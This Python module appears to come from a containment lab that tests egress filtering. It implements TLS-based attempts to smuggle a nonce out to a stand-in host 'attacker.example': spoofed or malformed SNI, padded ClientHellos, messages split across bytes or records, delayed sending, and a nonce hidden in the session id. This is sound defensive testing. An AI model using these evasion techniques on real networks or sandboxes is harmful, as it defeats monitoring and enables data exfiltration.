"""Attempts that play with the name a flow shows: TLS server names, and how the first message is cut, padded, delayed or disguised."""

from __future__ import annotations

import socket
import ssl
import struct
import time

from containment.lab.world.attacks.client_hello import client_hello
from containment.lab.world.attacks.task import Attempt, Technique, closing, trusting, unescaped


def tls(attempt: Attempt) -> None:
    """Speak TLS with a server name, and send the nonce inside."""
    sni = attempt.option("sni")
    if sni:
        attempt.marks.append(sni.lower().rstrip("."))
    context = trusting()
    if attempt.option("version") == "1.2":
        context.maximum_version = ssl.TLSVersion.TLSv1_2
    if attempt.option("alpn"):
        context.set_alpn_protocols(attempt.option("alpn").split("+"))
    if attempt.option("hello") == "big":
        context.set_alpn_protocols([f"h2-{index:03}-{'x' * 100}" for index in range(27)])
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    session = context.wrap_bio(incoming, outgoing, server_hostname=sni or None)
    with closing(attempt.connect(attempt.number("port", 443))) as handle:
        first = True
        while True:
            try:
                session.do_handshake()
                break
            except ssl.SSLWantReadError:
                data = outgoing.read()
                _send(handle, data, attempt.option("hello") if first else "")
                first = False
                incoming.write(_received(handle))
        _send(handle, outgoing.read(), "")
        host = attempt.option("host", sni or "attacker.example")
        path = attempt.option("path", "/")
        session.write(f"POST {path} HTTP/1.1\r\nHost: {host}\r\nContent-Length: {len(attempt.nonce)}\r\n\r\n{attempt.nonce}".encode())
        _send(handle, outgoing.read(), "")


def _received(handle: socket.socket) -> bytes:
    data = handle.recv(65536)
    if not data:
        raise ConnectionError("closed")
    return data


def _send(handle: socket.socket, data: bytes, how: str) -> None:
    """Send a first message in pieces, in several records, or slowly; anything else as it is."""
    if how == "split":
        for index in range(len(data)):
            handle.sendall(data[index : index + 1])
    elif how.startswith("records") and data[:1] == b"\x16":
        body, size = data[5:], int(how.removeprefix("records") or 40)
        pieces = [body[at : at + size] for at in range(0, len(body), size)]
        handle.sendall(b"".join(b"\x16\x03\x01" + struct.pack("!H", len(each)) + each for each in pieces))
    elif how == "slow":
        half = len(data) // 2
        handle.sendall(data[:half])
        time.sleep(3.5)
        handle.sendall(data[half:])
    elif how == "drip":
        for index in range(10):
            handle.sendall(data[len(data) * index // 10 : len(data) * (index + 1) // 10])
            time.sleep(0.12)
    else:
        handle.sendall(data)


def hello(attempt: Attempt) -> None:
    """Send a hand-made first message with the nonce in its session id, in the clear; `second`: and another one after it, which has it."""
    names = [unescaped(name) for name in attempt.option("sni").split("+") if name]
    attempt.marks += [name.decode("latin-1").lower().rstrip(".") for name in names]
    second = attempt.option("second")
    nonce = attempt.nonce.encode()
    first = client_hello(b"" if second else nonce, names, attempt.option("form"))
    with closing(attempt.connect(attempt.number("port", 443))) as handle:
        handle.sendall(unescaped(attempt.option("before")) + first)
        if second:
            time.sleep(0.5)
            handle.sendall(client_hello(nonce, [second.encode()]))


TECHNIQUES: dict[str, Technique] = {"tls": tls, "hello": hello}
